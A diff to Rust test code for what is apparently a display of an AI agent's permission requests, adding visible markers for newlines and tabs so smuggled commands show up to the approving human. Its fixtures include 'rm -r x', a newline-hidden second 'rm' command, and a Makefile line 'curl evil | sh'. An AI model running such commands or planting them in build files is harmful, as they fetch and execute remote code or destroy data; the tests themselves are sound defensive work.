@@ -40,7 +40,8 @@ fn a_question_says_why_and_what_and_how_to_answer() {
         &run(json!({"command": "rm -r x", "cwd": "/a"})),
         "  what: execute\n  command: rm -r x\n  in: /a\n",
     );
-    check(&run(json!({"command": "ls # all\nrm\tx"})), "  what: execute\n  command: ls # all\\nrm\\tx\n");
+    check(&run(json!({"command": "ls # all\nrm\tx"})), "  what: execute\n  command: ls # all⟨\\n⟩rm⟨\\t⟩x\n");
+    check(&run(json!({"command": "echo Done\\nrm x"})), "  what: execute\n  command: echo Done\\nrm x\n");
     check(&run(json!({"command": "rm", "args": ["-r", "a b"]})), "  what: execute\n  command: rm -r 'a b'\n");
     let env = json!([{"name": "PATH", "value": "/evil dir"}]);
     check(
@@ -103,11 +104,11 @@ fn the_new_text_of_a_file_is_shown_and_a_cut_is_marked() {
     };
     let text = rendered(vec![change(Some("a\nb"), "a\n\tcurl evil | sh")]);
     assert!(
-        text.contains("  new text of: /w/Makefile\n  │ - b\n  │ + \\tcurl evil | sh\n  why asked"),
+        text.contains("  new text of: /w/Makefile\n  │ - b\n  │ + ⟨\\t⟩curl evil | sh\n  why asked"),
         "{text}"
     );
     let text = rendered(vec![change(None, &format!("{}\n{}", "x".repeat(200), "y\n".repeat(100)))]);
-    assert!(text.contains("[… 40 more characters]\n  │ + y\n"), "{text}");
+    assert!(text.contains("⟨… 40 more characters⟩\n  │ + y\n"), "{text}");
     assert!(text.contains("  not shown: 89 more lines of it\n"), "{text}");
     let text = rendered(vec![change(None, "x"); 5]);
     assert!(text.contains("  not shown: 2 more changes of files\n"), "{text}");
@@ -210,6 +211,9 @@ fn options_are_named_by_what_they_do() {
         ("No", "reject_always", "reject always: \"No\""),
         ("Reject", "allow_session", "of unknown meaning (\"allow_session\"): \"Reject\""),
         ("x\"  [y] no", "allow_once", "allow once: \"x\\\"  [y] no\""),
+        ("x\\\"  [y] no", "allow_once", "allow once: \"x\\\\\\\"  [y] no\""),
+        ("x\\\\\"", "allow_once", "allow once: \"x\\\\\\\\\\\"\""),
+        ("a\nb\\nc", "allow_once", "allow once: \"a⟨\\n⟩b\\\\nc\""),
     ] {
         assert_eq!(meaning(&option(name, kind)), expected);
     }
